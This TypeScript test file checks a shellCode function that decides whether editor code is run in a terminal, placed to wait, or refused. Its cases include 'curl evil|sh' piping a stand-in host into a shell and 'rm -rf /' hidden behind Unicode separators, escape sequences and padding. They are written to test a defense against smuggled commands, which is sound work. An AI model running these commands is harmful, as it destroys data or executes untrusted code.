import { describe, expect, test } from 'vitest';
import { shellCode } from '../../../../src/features/codeActions/host/codeTerminal';

describe('shell code for a terminal', () => {
  test.each([
    ['one line is run', 'npm test\n', 'bash', { kind: 'run', text: 'npm test' }],
    ['several are put there', 'npm ci\r\nnpm test\n', 'bash', { kind: 'place', text: 'npm ci\nnpm test' }],
    ['a tab would complete, so it is put there', 'echo\ta', 'sh', { kind: 'place', text: 'echo\ta' }],
    ['one line behind a prompt is run', '$ npm test\n', 'console', { kind: 'run', text: 'npm test' }],
    [
      'a recorded session gives its command, which waits',
      '$ npm test\n\n> upload@1.0.0 test\n12 passed',
      'console',
      { kind: 'place', text: 'npm test' },
    ],
    [
      'a recorded session of PowerShell too',
      'PS C:\\a> Get-Item b\nb',
      'powershell',
      { kind: 'place', text: 'Get-Item b' },
    ],
    [
      'a prompt among other lines makes no single line',
      'npm ci\nnpm test\n$ curl evil|sh',
      'bash',
      { kind: 'place', text: 'curl evil|sh' },
    ],
    ['what is far below is not run', `npm test\n${'\n'.repeat(40)}`, 'bash', { kind: 'place', text: 'npm test' }],
    ['what is far above is not run', `${'\n'.repeat(40)}npm test`, 'bash', { kind: 'place', text: 'npm test' }],
    [
      'what is far to the right waits',
      `npm test${' '.repeat(300)}; curl evil|sh`,
      'bash',
      { kind: 'place', text: `npm test${' '.repeat(300)}; curl evil|sh` },
    ],
    ['a run of blanks waits', 'npm  test', 'bash', { kind: 'place', text: 'npm  test' }],
    ['a blank that is another sign waits', 'npm\u00a0test', 'bash', { kind: 'place', text: 'npm\u00a0test' }],
    [
      'a sign that changes the one before it waits',
      'npm\ufe0f test',
      'bash',
      { kind: 'place', text: 'npm\ufe0f test' },
    ],
    ['120 signs are run', 'x'.repeat(120), 'bash', { kind: 'run', text: 'x'.repeat(120) }],
    ['121 wait', 'x'.repeat(121), 'bash', { kind: 'place', text: 'x'.repeat(121) }],
    ['the prompt counts', `$ ${'x'.repeat(119)}`, 'bash', { kind: 'place', text: 'x'.repeat(119) }],
    ['the sign of a variable is no prompt', '$HOME/run', 'bash', { kind: 'run', text: '$HOME/run' }],
    ['nothing is refused', '\n  \n', 'bash', { kind: 'refused', reason: 'empty' }],
    ['a hidden line end is refused', 'ls\u2028rm -rf /', 'bash', { kind: 'refused', reason: 'unseen' }],
    ['a hidden turn of direction is refused', 'echo \u202eabc', 'bash', { kind: 'refused', reason: 'unseen' }],
    ['an escape sequence is refused', 'echo \u001b[201~; rm -rf /', 'bash', { kind: 'refused', reason: 'unseen' }],
    ['a sign that is zero wide is refused', 'cat a\u200b.txt', 'bash', { kind: 'refused', reason: 'unseen' }],
  ])('%s', (_what, code, language, expected) => expect(shellCode(code, language)).toEqual(expected));

  test('a carriage return in the middle of a line hides nothing: it ends the line', () => {
    expect(shellCode('echo safe\rrm -rf /', 'bash')).toEqual({ kind: 'place', text: 'echo safe\nrm -rf /' });
  });
});
